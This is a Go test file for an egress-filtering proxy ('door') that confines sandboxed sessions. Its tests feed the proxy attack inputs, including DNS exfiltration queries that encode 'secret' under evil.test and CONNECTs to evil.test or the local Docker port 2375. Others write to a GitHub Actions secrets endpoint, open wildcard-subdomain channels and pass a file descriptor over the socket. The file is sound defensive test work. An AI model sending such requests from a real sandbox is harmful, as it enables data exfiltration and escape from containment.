@@ -1,0 +1,488 @@
+package door_test
+
+import (
+	"bufio"
+	"context"
+	"encoding/binary"
+	"errors"
+	"fmt"
+	"io"
+	"net"
+	"net/http"
+	"net/netip"
+	"path/filepath"
+	"strings"
+	"testing"
+	"time"
+
+	"github.com/miekg/dns"
+	"golang.org/x/sys/unix"
+
+	"gatehouse/enforcers"
+	"gatehouse/enforcers/door"
+	"gatehouse/receipts"
+)
+
+// sessionRows are about who is asking, what the door itself is, and what a
+// session may use up.
+func sessionRows(*testing.T) map[string]row {
+	rows := map[string]row{
+		// Identity is the listener: what the client says about itself is neither
+		// needed nor believed.
+		"EG-68_no_token": both(connect(good), allowed(200, "egress[0]")),
+		"EG-68_foreign_token": both(func(in *inside) reply {
+			return in.raw("CONNECT", "CONNECT evil.test:22 HTTP/1.1\r\nHost: evil.test:22\r\nProxy-Authorization: Bearer session-of-another\r\n\r\n")
+		}, denied(403, "")),
+		"EG-97_docker_port":      both(rawConnect("127.0.0.1:2375"), denied(403, enforcers.CodeIPLiteral)),
+		"EG-97_admin_plain":      both(plainHost("127.0.0.1:9090"), denied(403, enforcers.CodeIPLiteral)),
+		"EG-104_bound_host":      both(boundRequest("PUT /repos/org/repo/actions/secrets"), denied(403, enforcers.CodeNeedsAuthority)),
+		"EG-106_own_listener":    both(rawConnect("127.0.0.1:9090"), denied(403, enforcers.CodeIPLiteral)),
+		"EG-106_unknown_address": both(rawConnect("198.18.0.77:443"), denied(403, enforcers.CodeIPLiteral)),
+		"EG-106_unknown_v6":      both(rawConnect("[fd67:6174:6568:6f75::77]:443"), denied(403, enforcers.CodeIPLiteral)),
+		"EG-106_first_address":   both(rawConnect("198.18.0.0:443"), denied(403, enforcers.CodeIPLiteral)),
+		"EG-106_garbage":         both(func(in *inside) reply { return in.raw("GET", "\x16\x03\x01\x00\r\n\r\n") }, denied(400, enforcers.CodeMalformed)),
+		"EG-106_two_targets":     both(rawConnect("api.good.test:443 evil.test:443"), denied(400, enforcers.CodeMalformed)),
+		"EG-107_no_query": {
+			do:     func(in *inside) reply { _, _, re := in.tunnel("secret-label.evil.test:443"); return re },
+			hard:   denied(403, "host_not_listed"),
+			shadow: stopped(200, "").asked(0),
+		},
+	}
+	r := rows["EG-104_bound_host"]
+	r.hard.code = "method_not_listed"
+	rows["EG-104_bound_host"] = r
+	r = rows["EG-68_foreign_token"]
+	r.hard.code, r.shadow.code = "host_not_listed", enforcers.CodePort
+	rows["EG-68_foreign_token"] = r
+	r = rows["EG-107_no_query"]
+	r.shadow.effect, r.shadow.code, r.shadow.outcome = enforcers.Deny, "host_not_listed", enforcers.CodeClientGone
+	rows["EG-107_no_query"] = r
+	for name, address := range map[string]string{"v4": "127.0.0.1:2375", "name": "localhost:2375"} {
+		code := enforcers.CodeIPLiteral
+		if name == "name" {
+			code = enforcers.CodeSpecialName
+		}
+		rows["EG-97_"+name] = both(rawConnect(address), denied(403, code))
+	}
+	return rows
+}
+
+func boundRequest(line string) func(*inside) reply {
+	return func(in *inside) reply {
+		return in.https("bound.good.test:443", "bound.good.test", line+" HTTP/1.1\r\nHost: bound.good.test\r\n\r\n")
+	}
+}
+
+// resolver asks the door's DNS the way init does.
+type resolver struct {
+	c net.Conn
+	r *bufio.Reader
+}
+
+func (in *inside) resolver() *resolver {
+	in.t.Helper()
+	c, r, re := in.tunnel("gatehouse-dns:53")
+	if re.status != 200 {
+		in.t.Fatalf("the DNS tunnel answered %d", re.status)
+	}
+	return &resolver{c, r}
+}
+
+func (r *resolver) raw(b []byte) (*dns.Msg, error) {
+	if _, err := r.c.Write(append(binary.BigEndian.AppendUint16(nil, uint16(len(b))), b...)); err != nil {
+		return nil, err
+	}
+	var size [2]byte
+	if _, err := io.ReadFull(r.r, size[:]); err != nil {
+		return nil, err
+	}
+	answer := make([]byte, binary.BigEndian.Uint16(size[:]))
+	if _, err := io.ReadFull(r.r, answer); err != nil {
+		return nil, err
+	}
+	m := new(dns.Msg)
+	return m, m.Unpack(answer)
+}
+
+func (r *resolver) ask(t testing.TB, name string, qtype uint16) *dns.Msg {
+	t.Helper()
+	q := new(dns.Msg)
+	q.SetQuestion(dns.Fqdn(name), qtype)
+	b, err := q.Pack()
+	if err != nil {
+		t.Fatal(err)
+	}
+	m, err := r.raw(b)
+	if err != nil {
+		t.Fatalf("%s: %v", name, err)
+	}
+	if m.Id != q.Id || !m.Response || len(m.Question) != 1 {
+		t.Fatalf("%s: %v", name, m)
+	}
+	return m
+}
+
+func addressOf(t testing.TB, m *dns.Msg) netip.Addr {
+	t.Helper()
+	if len(m.Answer) != 1 {
+		t.Fatalf("no single answer: %v", m)
+	}
+	switch rr := m.Answer[0].(type) {
+	case *dns.A:
+		a, _ := netip.AddrFromSlice(rr.A.To4())
+		return a
+	case *dns.AAAA:
+		a, _ := netip.AddrFromSlice(rr.AAAA.To16())
+		return a
+	}
+	t.Fatalf("no address: %v", m)
+	return netip.Addr{}
+}
+
+// TestDNS shows that the door answers names itself, that the addresses it
+// makes up lead back to the name, and that nothing is ever asked outside.
+func TestDNS(t *testing.T) {
+	o := newOutside(t)
+	nothingAsked := func(t *testing.T, before tally) {
+		t.Helper()
+		if after := o.tally(); after != before {
+			t.Errorf("something reached the outside: %+v", after)
+		}
+	}
+	for _, mode := range []receipts.Mode{receipts.Hard, receipts.Shadow} {
+		t.Run("EG-94_exfiltration_label/"+string(mode), func(t *testing.T) {
+			in := open(t, o, setup{mode: mode})
+			before := o.tally()
+			r := in.resolver()
+			for _, qtype := range []uint16{dns.TypeA, dns.TypeAAAA, dns.TypeTXT, dns.TypeNULL, dns.TypeMX, dns.TypeHTTPS, dns.TypeANY, 65280} {
+				m := r.ask(t, "c2VjcmV0.evil.test", qtype)
+				addresses := mode == receipts.Shadow && (qtype == dns.TypeA || qtype == dns.TypeAAAA)
+				if len(m.Answer) != 0 != addresses {
+					t.Errorf("type %d: %v", qtype, m)
+				}
+				if mode == receipts.Hard && m.Rcode != dns.RcodeNameError {
+					t.Errorf("type %d: rcode %d", qtype, m.Rcode)
+				}
+				d, _ := in.rec.last()
+				if d.Action.Kind != enforcers.DNSQuery || d.Decision.Effect != enforcers.Deny || d.Decision.Reason != "name_not_listed" {
+					t.Errorf("type %d: receipt %+v", qtype, d)
+				}
+			}
+			nothingAsked(t, before)
+		})
+		t.Run("EG-94_listed/"+string(mode), func(t *testing.T) {
+			in := open(t, o, setup{mode: mode})
+			before := o.tally()
+			r := in.resolver()
+			four, six := addressOf(t, r.ask(t, good, dns.TypeA)), addressOf(t, r.ask(t, good, dns.TypeAAAA))
+			if again := addressOf(t, r.ask(t, "API.good.test", dns.TypeA)); again != four {
+				t.Errorf("the name's address changed from %s to %s", four, again)
+			}
+			if other := addressOf(t, r.ask(t, "git.good.test", dns.TypeA)); other == four {
+				t.Error("two names share an address")
+			}
+			for _, qtype := range []uint16{dns.TypeTXT, dns.TypeHTTPS, dns.TypeSVCB} { // EG-61: no hint at another endpoint
+				if m := r.ask(t, good, qtype); len(m.Answer) != 0 || m.Rcode != dns.RcodeSuccess {
+					t.Errorf("type %d: %v", qtype, m)
+				}
+			}
+			nothingAsked(t, before)
+			// The transparent path: both addresses lead to the name.
+			for _, target := range []string{netip.AddrPortFrom(four, 443).String(), netip.AddrPortFrom(six, 443).String()} {
+				if re := in.https(target, good, get(good, "/v1/x")); re.status != 200 {
+					t.Errorf("%s: %d %v", target, re.status, re.err)
+				}
+				if re := in.https(target, "evil.test", get(good, "/v1/x")); re.err == nil {
+					t.Errorf("EG-39: %s took another server name", target)
+				}
+			}
+		})
+	}
+	t.Run("EG-94_malformed", func(t *testing.T) {
+		in := open(t, o, setup{})
+		before := o.tally()
+		query := func(f func(*dns.Msg)) []byte {
+			m := new(dns.Msg)
+			m.SetQuestion("api.good.test.", dns.TypeA)
+			f(m)
+			b, err := m.Pack()
+			if err != nil {
+				t.Fatal(err)
+			}
+			return b
+		}
+		for name, b := range map[string][]byte{
+			"empty":         {},
+			"garbage":       []byte("not a message at all"),
+			"response":      query(func(m *dns.Msg) { m.Response = true }),
+			"two_questions": query(func(m *dns.Msg) { m.Question = append(m.Question, m.Question[0]) }),
+			"no_question":   query(func(m *dns.Msg) { m.Question = nil }),
+			"with_answer":   query(func(m *dns.Msg) { m.Answer = answer(m.Question[0], "93.184.216.10").Answer }),
+		} {
+			if m, err := in.resolver().raw(b); err == nil {
+				t.Errorf("%s was answered: %v", name, m)
+			}
+		}
+		for name, want := range map[string]struct {
+			rcode int
+			b     []byte
+		}{
+			"update": {dns.RcodeNotImplemented, query(func(m *dns.Msg) { m.Opcode = dns.OpcodeUpdate })},
+			"chaos":  {dns.RcodeRefused, query(func(m *dns.Msg) { m.Question[0].Qclass = dns.ClassCHAOS })},
+			"name":   {dns.RcodeNameError, query(func(m *dns.Msg) { m.Question[0].Name = `evil\000.good.test.` })},
+			"space":  {dns.RcodeNameError, query(func(m *dns.Msg) { m.Question[0].Name = `a\032b.good.test.` })},
+			"root":   {dns.RcodeNameError, query(func(m *dns.Msg) { m.Question[0].Name = "." })},
+		} {
+			if m, err := in.resolver().raw(want.b); err != nil || m.Rcode != want.rcode || len(m.Answer) > 0 {
+				t.Errorf("%s: %v %v", name, m, err)
+			}
+		}
+		nothingAsked(t, before)
+	})
+	t.Run("EG-109_name_bounds", func(t *testing.T) {
+		now := time.Unix(1_800_000_000, 0)
+		in := open(t, o, setup{mode: receipts.Shadow, clock: func() time.Time { return now }})
+		r := in.resolver()
+		for i := range 64 {
+			addressOf(t, r.ask(t, fmt.Sprintf("n%d.evil.test", i), dns.TypeA))
+		}
+		if m := r.ask(t, "n64.evil.test", dns.TypeA); m.Rcode != dns.RcodeRefused {
+			t.Errorf("the 65th name in a minute: %v", m)
+		}
+		addressOf(t, r.ask(t, "n0.evil.test", dns.TypeA)) // a known name is no new one
+		if re := rawConnect("n65.evil.test:443")(in); re.status != 403 || !strings.Contains(re.body, "name_rate") {
+			t.Errorf("CONNECT to a 65th name: %d %s", re.status, re.body)
+		}
+		now = now.Add(time.Minute)
+		addressOf(t, r.ask(t, "n64.evil.test", dns.TypeA))
+	})
+	t.Run("reserved", func(t *testing.T) {
+		in := open(t, o, setup{routes: []door.Route{{
+			Match:   func(r *door.Request) bool { return r.To.Host() == door.Reserved },
+			Handler: door.HandlerFunc(func(w http.ResponseWriter, r *door.Request) { _, _ = io.WriteString(w, "inside "+r.Path) }),
+		}}})
+		before := o.tally()
+		a := addressOf(t, in.resolver().ask(t, door.Reserved, dns.TypeA))
+		if re := inTunnelHTTP(a.String()+":80", get(door.Reserved, "/agent/v1/session"))(in); re.body != "inside /agent/v1/session" {
+			t.Errorf("client saw %d %q", re.status, re.body)
+		}
+		if re := plain("http://gatehouse.internal/x", door.Reserved)(in); re.body != "inside /x" {
+			t.Errorf("client saw %d %q", re.status, re.body)
+		}
+		none := open(t, o, setup{})
+		if re := plain("http://gatehouse.internal/x", door.Reserved)(none); re.status != 404 {
+			t.Errorf("without a route: %d", re.status)
+		}
+		nothingAsked(t, before)
+	})
+}
+
+// TestNameBudget shows that a wildcard is no channel.
+func TestNameBudget(t *testing.T) {
+	o := newOutside(t)
+	for _, mode := range []receipts.Mode{receipts.Hard, receipts.Shadow} {
+		t.Run("EG-109_labels_under_wildcard/"+string(mode), func(t *testing.T) {
+			in := open(t, o, setup{mode: mode})
+			statuses := map[int]int{}
+			queries := 0
+			for i := range 40 {
+				before := o.tally()
+				re := in.fetch(fmt.Sprintf("n%d.deep.test", i), "/")
+				statuses[re.status]++
+				if re.status == 403 {
+					if !strings.Contains(re.body, enforcers.CodeNameBudget) {
+						t.Errorf("refused for %s", re.body)
+					}
+					queries += o.tally().queries - before.queries
+				}
+			}
+			if mode == receipts.Hard && (statuses[200] != 32 || statuses[403] != 8 || queries != 0) {
+				t.Errorf("statuses %v, %d queries for refused names", statuses, queries)
+			}
+			if mode == receipts.Shadow {
+				if d, _ := in.rec.last(); d.Decision.Reason != enforcers.CodeNameBudget || !d.Decision.Passed {
+					t.Errorf("shadow's receipt: %+v", d.Decision)
+				}
+			}
+		})
+	}
+}
+
+// TestRevocation shows that the end of a session, and a change of policy, cut
+// what is open.
+func TestRevocation(t *testing.T) {
+	o := newOutside(t)
+	for name, c := range map[string]struct {
+		code string
+		end  func(*inside)
+	}{
+		"EG-70_session_ends":    {enforcers.CodeRevoked, func(in *inside) { in.door.Close(enforcers.CodeRevoked) }},
+		"EG-100_policy_changes": {enforcers.CodeGeneration, func(in *inside) { in.gate.Swap(policyOf(in.t, matrixPolicy)) }},
+	} {
+		for kind, open1 := range map[string]func(t *testing.T, in *inside) io.Reader{
+			"idle_tunnel": func(_ *testing.T, in *inside) io.Reader { c, _, _ := in.tunnel(good + ":443"); return c },
+			"idle_tls":    func(_ *testing.T, in *inside) io.Reader { c, _, _ := in.secure(good+":443", good); return c },
+			"blind": func(t *testing.T, in *inside) io.Reader {
+				c, r, re := in.tunnel("blind.good.test:5432")
+				_, _ = io.WriteString(c, "x")
+				if b, err := r.ReadByte(); re.status != 200 || b != 'x' || err != nil {
+					t.Fatal("the blind tunnel does not work")
+				}
+				return r
+			},
+			"stream": func(t *testing.T, in *inside) io.Reader {
+				c, r, _ := in.secure(good+":443", good)
+				_, _ = io.WriteString(c, get(good, "/v1/x"))
+				if line, err := r.ReadString('\n'); err != nil || !strings.Contains(line, "200") {
+					t.Fatalf("%q %v", line, err)
+				}
+				return r
+			},
+		} {
+			t.Run(name+"/"+kind, func(t *testing.T) {
+				o.handle(t, func(w http.ResponseWriter, r *http.Request) {
+					w.Header().Set("Content-Type", "text/event-stream")
+					for r.Context().Err() == nil {
+						_, _ = io.WriteString(w, "data: x\n\n")
+						w.(http.Flusher).Flush()
+						time.Sleep(time.Millisecond)
+					}
+				})
+				in := open(t, o, setup{})
+				r := open1(t, in)
+				began := time.Now()
+				c.end(in)
+				if _, err := io.Copy(io.Discard, r); errors.Is(err, context.DeadlineExceeded) {
+					t.Fatal("still open")
+				}
+				if took := time.Since(began); took > patience {
+					t.Errorf("took %s", took)
+				}
+				in.hangUp()
+				if kind == "blind" || kind == "stream" {
+					if _, out := in.rec.last(); out.Code != c.code || out.Effect != enforcers.Forwarded {
+						t.Errorf("outcome %+v, want code %s", out, c.code)
+					}
+				}
+				before := o.tally()
+				re := in.fetchOrNothing(good)
+				if name == "EG-70_session_ends" && re.status != 0 {
+					t.Errorf("after the end the door answered %d", re.status)
+				}
+				if name == "EG-100_policy_changes" && re.status != 200 {
+					t.Errorf("under the new policy: %d %v", re.status, re.err)
+				}
+				if after := o.tally(); name == "EG-70_session_ends" && after != before {
+					t.Error("something reached the outside after the end")
+				}
+			})
+		}
+	}
+}
+
+// fetchOrNothing is fetch for a door that may be gone.
+func (in *inside) fetchOrNothing(host string) reply {
+	c, err := net.Dial("unix", in.path)
+	if err != nil {
+		return reply{err: err}
+	}
+	_ = c.Close()
+	in.out.mu.Lock()
+	in.out.handler = nil
+	in.out.mu.Unlock()
+	return in.fetch(host, "/v1/x")
+}
+
+// TestReceiptLogDown shows that without receipts nothing passes.
+func TestReceiptLogDown(t *testing.T) {
+	o := newOutside(t)
+	for _, mode := range []receipts.Mode{receipts.Hard, receipts.Shadow} {
+		t.Run("EG-99_log_down/"+string(mode), func(t *testing.T) {
+			in := open(t, o, setup{mode: mode})
+			before := o.tally()
+			c, r, _ := in.secure(good+":443", good)
+			in.rec.mu.Lock()
+			in.rec.down = true
+			in.rec.mu.Unlock()
+			_, _ = io.WriteString(c, get(good, "/v1/x"))
+			if re := read(r, "GET"); re.status != 503 || !strings.Contains(re.body, enforcers.CodeReceiptUnavailable) {
+				t.Errorf("client saw %d %s", re.status, re.body)
+			}
+			if re := rawConnect(good + ":443")(in); re.status != 503 {
+				t.Errorf("CONNECT: %d", re.status)
+			}
+			if re := rawConnect("evil.test:443")(in); re.status != 503 {
+				t.Errorf("CONNECT to evil: %d", re.status)
+			}
+			if after := o.tally(); after != before {
+				t.Errorf("something reached the outside: %+v", after)
+			}
+		})
+	}
+}
+
+// TestTwoSessions shows that a session is what it came in by.
+func TestTwoSessions(t *testing.T) {
+	o := newOutside(t)
+	a, b := open(t, o, setup{}), open(t, o, setup{})
+	t.Run("EG-69_identity_is_the_listener", func(t *testing.T) {
+		if re := a.fetch(good, "/v1/x"); re.status != 200 {
+			t.Fatal(re)
+		}
+		if len(b.rec.all()) != 0 {
+			t.Error("one session's action stands in another's receipts")
+		}
+	})
+	t.Run("EG-69_names_are_not_shared", func(t *testing.T) {
+		addr := addressOf(t, a.resolver().ask(t, "git.good.test", dns.TypeA))
+		if re := rawConnect(addr.String() + ":443")(b); re.status != 403 {
+			t.Errorf("another session's address: %d", re.status)
+		}
+	})
+	t.Run("EG-98_another_door", func(t *testing.T) {
+		// A door listens on a unix socket only; there is no address to name.
+		if re := rawConnect(filepath.Base(b.path) + ":1")(a); re.status != 403 {
+			t.Errorf("%d", re.status)
+		}
+	})
+	t.Run("EG-69_trust_is_not_shared", func(t *testing.T) {
+		b.roots, a.roots = a.roots, b.roots
+		if re := a.fetch(good, "/v1/x"); re.err == nil {
+			t.Error("one session's CA is trusted in another")
+		}
+	})
+}
+
+// TestDescriptorPassing shows that descriptors sent over the door's socket are
+// dropped and change nothing.
+func TestDescriptorPassing(t *testing.T) {
+	o := newOutside(t)
+	in := open(t, o, setup{})
+	t.Run("EG-110_scm_rights", func(t *testing.T) {
+		c := in.dial().(*net.UnixConn)
+		reader, writer, err := pipe()
+		if err != nil {
+			t.Fatal(err)
+		}
+		text := "CONNECT evil.test:443 HTTP/1.1\r\nHost: evil.test:443\r\n\r\n"
+		if _, _, err := c.WriteMsgUnix([]byte(text), unix.UnixRights(writer), nil); err != nil {
+			t.Fatal(err)
+		}
+		_ = unix.Close(writer)
+		if re := read(bufio.NewReader(c), "CONNECT"); re.status != 403 {
+			t.Errorf("client saw %d", re.status)
+		}
+		// The door's copy of the pipe's end is closed: the reader sees its end.
+		buf := make([]byte, 1)
+		if n, err := unix.Read(reader, buf); n != 0 || err != nil {
+			t.Errorf("the descriptor lived on: %d %v", n, err)
+		}
+		_ = unix.Close(reader)
+	})
+}
+
+func pipe() (r, w int, err error) {
+	var p [2]int
+	err = unix.Pipe2(p[:], unix.O_CLOEXEC)
+	return p[0], p[1], err
+}
